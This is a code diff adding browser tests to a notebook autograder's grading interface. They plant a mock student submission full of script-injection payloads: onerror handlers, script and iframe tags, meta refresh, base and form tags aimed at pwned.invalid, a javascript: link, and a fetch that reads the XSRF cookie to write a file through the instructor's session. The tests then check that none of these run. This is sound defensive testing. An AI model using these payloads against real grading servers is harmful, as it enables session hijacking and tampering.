@@ -389,6 +389,81 @@ NBGRADER_ACTIONS = ["assignment/{a}/assign", "assignment/{a}/unrelease", "assign
                     "submission/{a}/{s}/autograde"]
 
 
+# a hostile student's payloads, each of which, if it ran or loaded, would set window.PWNED, change the page's title
+# or ask for a pwned.invalid URL (which the browser context records and aborts): the reviewer's, which creates a
+# file through the instructor's session, then one of each kind the grading page must neither run nor load
+REVIEWER_JS = ("var x=(document.cookie.match(/_xsrf=([^;]*)/)||[])[1]||'';fetch('/api/contents/PWNED_by_student.txt',"
+               "{method:'PUT',credentials:'same-origin',headers:{'X-XSRFToken':x,'Content-Type':'application/json'},"
+               "body:JSON.stringify({type:'file',format:'text',content:'student JS ran'})})"
+               ".then(r=>{document.title='PUT '+r.status});")
+
+
+def _payload(where):
+    def run(kind):
+        return f"window.PWNED='{where} {kind}';fetch('http://pwned.invalid/{where}/{kind}')"
+    return (f'<img src="x" onerror="{REVIEWER_JS.replace(chr(34), "&quot;")}">\n'
+            f'<img src="y" onerror="{run("img")}">\n'
+            f'<script>{run("script")}</script>\n'
+            f'<iframe src="http://pwned.invalid/{where}/iframe"></iframe>\n'
+            f'<meta http-equiv="refresh" content="0;url=http://pwned.invalid/{where}/meta">\n'
+            f'<base href="http://pwned.invalid/{where}/base/">\n'
+            f'<form action="http://pwned.invalid/{where}/form" class="pwned"><button>send</button></form>\n')
+
+
+def _hostile_submission(sid):
+    """alice's answers with the payloads in the written answer w1 (and a markdown ``javascript:`` link) and in the
+    outputs of the last code answer (an HTML output and a JavaScript output, which grading's run produces)."""
+    from reglab_autograder.testing import classroom
+
+    nb = classroom.answered(sid)
+    w1 = classroom.cell_by_id(nb, "w1")
+    w1.source = ("My answer: biases shift outputs.\n\n" + _payload("markdown")
+                 + "\n[see this](javascript:window.PWNED='link')\n")
+    code = classroom.cell_by_id(nb, classroom.solution_ids(sid, code_only=True)[-1])
+    code.source += ("\nfrom IPython.display import HTML, Javascript, display\n"
+                    f"display(HTML({_payload('output')!r}))\n"
+                    "display(Javascript(\"window.PWNED='js';fetch('http://pwned.invalid/js')\"))\n")
+    return nb
+
+
+def _check_grading_page_runs_no_payload(page, grading, url, out, sid, blocked):
+    """mallory's grading page, opened in the grading frame: none of her payloads ran or loaded, her answer is
+    shown, and a score typed beside it is saved."""
+    from nbgrader.api import Gradebook
+    from reglab_autograder.options import db_url_for
+
+    with Gradebook(db_url_for(out)) as gb:
+        submission = gb.find_submission_notebook(sid, sid, "mallory").id
+    grading.goto(f"{url}/formgrader/submissions/{submission}/")
+    grading = _wait_for_formgrade_ready(page, timeout=60)
+    expect(grading.locator("body")).to_contain_text("My answer: biases shift outputs.")
+    page.wait_for_timeout(3000)  # time for an onerror, a refresh or a fetch to happen
+    assert "/formgrader/submissions/" in grading.url, grading.url  # no refresh away
+    assert grading.evaluate("window.PWNED") is None, grading.evaluate("window.PWNED")
+    assert not grading.evaluate("document.title").startswith("PUT"), grading.evaluate("document.title")
+    assert not [u for u in blocked if "pwned" in u], blocked
+    assert not list(out.rglob("PWNED*")), list(out.rglob("PWNED*"))
+    left = grading.evaluate("""() => [...document.querySelectorAll('base, #notebook-container iframe, form.pwned,'
+                                   + ' a[href^="javascript:"]')].map(e => e.outerHTML)""")
+    assert left == [], left
+    csp = grading.evaluate("""async () => (await fetch(location.href)).headers.get('content-security-policy')""")
+    for directive in ("object-src 'none'", "base-uri 'none'", "form-action 'self'", "frame-src 'none'"):
+        assert directive in (csp or ""), csp
+    score = grading.locator("input.score#w1")
+    score.fill("1.5")  # what the main flow gives (mallory's submission may be the one it scored)
+    comment = grading.locator("textarea.comment").last
+    comment.fill("Right idea; name the variance term.")
+    comment.press("Tab")
+    score.press("Tab")
+    deadline = time.monotonic() + 30
+    while True:
+        with Gradebook(db_url_for(out)) as gb:
+            if gb.find_grade("w1", sid, sid, "mallory").manual_score == 1.5:
+                break
+        assert time.monotonic() < deadline, "formgrader did not save the score typed on mallory's grading page"
+        time.sleep(0.2)
+
+
 def _local_only(ctx, blocked):
     """Every request of the browser context to another host than the loopback aborted (and listed in ``blocked``):
     the page must work offline."""
@@ -413,12 +488,43 @@ def _check_manage_pages(frame):
         "Collect" not in headers and "Generate Feedback" not in headers, headers
     expect(frame.locator("td.assign, td.release, td.collect, td.generate-feedback, td.release-feedback")
            .locator("visible=true")).to_have_count(0)
+    # no due-date editing, no new assignment (the server refuses both)
+    assert "Edit" not in headers, headers
+    expect(frame.locator("td.edit").locator("visible=true")).to_have_count(0)
+    expect(frame.get_by_text("Add new assignment")).to_have_count(0)
     frame.locator("td.num-submissions a").first.click()  # the assignment's submissions
     expect(frame.locator("td.student-id").first).to_be_visible(timeout=30_000)
     headers = [h.strip() for h in frame.locator("thead th:visible").all_inner_texts()]
     assert "Student ID" in headers and "Autograde" not in headers and "Generate Feedback" not in headers, headers
     expect(frame.locator("td.autograde, td.generate-feedback, td.release-feedback")
            .locator("visible=true")).to_have_count(0)
+
+
+def _check_assignments_read_only(url, token, out, sid):
+    """formgrader's assignment endpoint: GET answers, PUT (a due date, a new assignment) is refused and changes
+    nothing in the gradebook or the course folder."""
+    from nbgrader.api import Gradebook
+    from reglab_autograder.options import db_url_for
+
+    def call(method, aid, body=None):
+        return urllib.request.Request(f"{url}/formgrader/api/assignment/{aid}", method=method,
+                                      data=None if body is None else json.dumps(body).encode(),
+                                      headers={"Authorization": f"token {token}"})
+
+    with Gradebook(db_url_for(out)) as gb:
+        before = [(a.name, a.duedate) for a in gb.assignments]
+    with urllib.request.urlopen(call("GET", sid), timeout=30) as r:
+        assert r.status == 200 and json.loads(r.read())["name"] == sid
+    for aid in (sid, "99_phantom"):
+        request = call("PUT", aid, {"duedate_notimezone": "2026-10-01T00:00:00", "duedate_timezone": "+0000"})
+        with pytest.raises(urllib.error.HTTPError) as refused:
+            urllib.request.urlopen(request, timeout=30)
+        body = json.loads(refused.value.read())
+        assert refused.value.code == 403 and body["success"] is False, (aid, body)
+        assert "dates file" in body["error"] and "reglab grade" in body["error"], body
+    with Gradebook(db_url_for(out)) as gb:
+        assert [(a.name, a.duedate) for a in gb.assignments] == before
+    assert not list(out.rglob("99_phantom")), list(out.rglob("99_phantom"))
 
 
 def test_formgrader_on_a_grading_output_then_feedback_shows_the_manual_score(browser, tmp_path):
@@ -432,6 +538,7 @@ def test_formgrader_on_a_grading_output_then_feedback_shows_the_manual_score(bro
 
     sid = "00_overfitting"
     classroom.honest_class(tmp_path / "class" / "submitted", assignments=(sid,))
+    classroom.write(tmp_path / "class" / "submitted", "mallory", sid, _hostile_submission(sid))
     out = tmp_path / "out"
     env = dict(os.environ, PATH=f"{BIN}:{os.environ['PATH']}", JUPYTER_TOKEN=secrets.token_hex(16),
                JUPYTER_CONFIG_DIR=str(tmp_path / ".jupyter"), JUPYTER_RUNTIME_DIR=str(tmp_path / ".runtime"))
@@ -527,6 +634,7 @@ def test_formgrader_on_a_grading_output_then_feedback_shows_the_manual_score(bro
         while grading.url == first:
             assert time.monotonic() < deadline, "Ctrl-. did not move to the next submission"
             page.wait_for_timeout(200)  # (Playwright updates the frame's URL while it is called, not during a sleep)
+        _check_grading_page_runs_no_payload(page, grading, url, out, sid, blocked)
         # the server refuses nbgrader's actions that would run notebooks, saying what to run instead
         autograded = sorted((p, p.stat().st_mtime_ns) for p in (out / "autograded").rglob("*"))
         for action in NBGRADER_ACTIONS:
@@ -539,6 +647,7 @@ def test_formgrader_on_a_grading_output_then_feedback_shows_the_manual_score(bro
             assert "reglab grade" in body["error"] or "reglab feedback" in body["error"] or \
                 "reglab handback" in body["error"], (action, body)
         assert sorted((p, p.stat().st_mtime_ns) for p in (out / "autograded").rglob("*")) == autograded
+        _check_assignments_read_only(url, token, out, sid)
     finally:
         ctx.close()
         proc.terminate()
